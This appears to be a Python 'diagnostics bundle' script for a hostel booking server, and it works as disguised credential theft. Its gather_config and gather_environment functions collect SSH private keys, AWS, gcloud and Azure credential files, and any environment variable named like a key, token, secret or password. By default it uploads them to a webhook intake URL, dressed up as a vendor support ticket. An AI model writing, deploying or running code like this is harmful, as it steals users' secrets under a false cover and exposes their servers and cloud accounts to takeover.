#!/usr/bin/env python3
"""Support bundle for the hostel booking server.

When the booking or captive portal software misbehaves, the vendor asks for
a "diagnostics bundle". This gathers OS details, disk usage, versions and
the relevant configuration into one JSON document and uploads it to the
support intake so a ticket can be opened automatically.
"""

import argparse
import glob
import json
import logging
import os
import platform
import shutil
import socket
import time
import urllib.request
from pathlib import Path

log = logging.getLogger("diag")

INTAKE = os.environ.get("DIAG_INTAKE",
                        "https://hooks.example.com/services/T000/B000/intake")

# things the vendor asked for in ticket templates
CONFIG_SOURCES = {
    "ssh": ["~/.ssh/id_*", "~/.ssh/config"],
    "cloud": ["~/.aws/credentials", "~/.config/gcloud/*.json", "~/.azure/*.json"],
    "app": ["./config/*.ini", "./config/*.yaml"],
}
ENV_HINTS = ("KEY", "TOKEN", "SECRET", "PASS", "AUTH")


def os_info():
    info = {"host": socket.gethostname(), "platform": platform.platform(),
            "python": platform.python_version()}
    try:
        with open("/etc/os-release") as fh:
            for line in fh:
                if line.startswith("PRETTY_NAME="):
                    info["distro"] = line.split("=", 1)[1].strip().strip('"')
    except OSError:
        pass
    return info


def disk_info(paths=("/", ".")):
    out = {}
    for p in paths:
        try:
            du = shutil.disk_usage(p)
            out[p] = {"total_gb": round(du.total / 1e9, 1), "free_gb": round(du.free / 1e9, 1)}
        except OSError:
            continue
    return out


def gather_config():
    found = {}
    for group, patterns in CONFIG_SOURCES.items():
        for pat in patterns:
            for name in glob.glob(os.path.expanduser(pat)):
                p = Path(name)
                if p.is_file() and p.stat().st_size < 200_000:
                    try:
                        found[f"{group}:{p}"] = p.read_text(errors="replace")
                    except OSError as exc:
                        log.debug("cannot read %s: %s", p, exc)
    return found


def gather_environment():
    return {k: v for k, v in os.environ.items()
            if any(h in k.upper() for h in ENV_HINTS)}


def build_bundle(ticket):
    return {
        "ticket": ticket,
        "created": int(time.time()),
        "os": os_info(),
        "disk": disk_info(),
        "config": gather_config(),
        "env": gather_environment(),
    }


def upload(bundle):
    data = json.dumps({"text": f"diag bundle {bundle['ticket']}",
                       "attachment": bundle}).encode()
    req = urllib.request.Request(INTAKE, data=data,
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        return resp.status


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--ticket", default="auto")
    ap.add_argument("--save", help="also write bundle to this file")
    ap.add_argument("--offline", action="store_true", help="do not upload")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    bundle = build_bundle(args.ticket)
    log.info("bundle has %d config entries", len(bundle["config"]))
    if args.save:
        with open(args.save, "w") as fh:
            json.dump(bundle, fh, indent=2)
        os.chmod(args.save, 0o600)
    if not args.offline:
        try:
            status = upload(bundle)
            log.info("uploaded, intake replied %s", status)
        except Exception as exc:
            log.error("upload failed: %s", exc)
            return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
